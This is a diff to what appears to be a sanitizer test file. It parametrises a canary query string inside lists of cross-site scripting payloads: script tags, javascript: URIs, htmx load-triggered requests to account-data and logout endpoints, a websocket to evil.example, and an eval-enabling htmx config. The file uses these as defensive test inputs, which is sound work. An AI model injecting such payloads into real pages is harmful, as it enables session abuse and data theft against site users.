@@ -9,6 +9,8 @@ from itertools import product
 from tests.reference.test_question_text import HOSTILE
 
 RUN = "alert(1)"
+CANARY = "canary"
+"""The query of the requests that only markup of a writer would send."""
 
 ON_THEIR_OWN = [
     f"<script>{RUN}</script>",
@@ -56,10 +58,10 @@ WITH_HELP = [
     f"<a href='java\tscript:{RUN}'>x</a>",
     f"<form action=javascript:{RUN}><button>x</button></form>",
     f"<button formaction=javascript:{RUN}>x</button>",
-    "<p hx-get='/accounts/data/?canary' hx-trigger=load>x</p>",
-    "<p data-hx-get='/accounts/data/?canary' data-hx-trigger=load>x</p>",
+    f"<p hx-get='/accounts/data/?{CANARY}' hx-trigger=load>x</p>",
+    f"<p data-hx-get='/accounts/data/?{CANARY}' data-hx-trigger=load>x</p>",
     "<p hx-on:click='alert(1)' hx-on::load='alert(1)' hx-on:htmx:load='alert(1)'>x</p>",
-    "<p data-hx-post='/accounts/logout/?canary' data-hx-trigger='load'>x</p>",
+    f"<p data-hx-post='/accounts/logout/?{CANARY}' data-hx-trigger='load'>x</p>",
     "<div hx-ext='x' hx-ws='connect:wss://evil.example'>x</div>",
     "<meta name=htmx-config content='{\"allowEval\":true}'>",
     "<p x-data x-init='alert(1)'>x</p>",
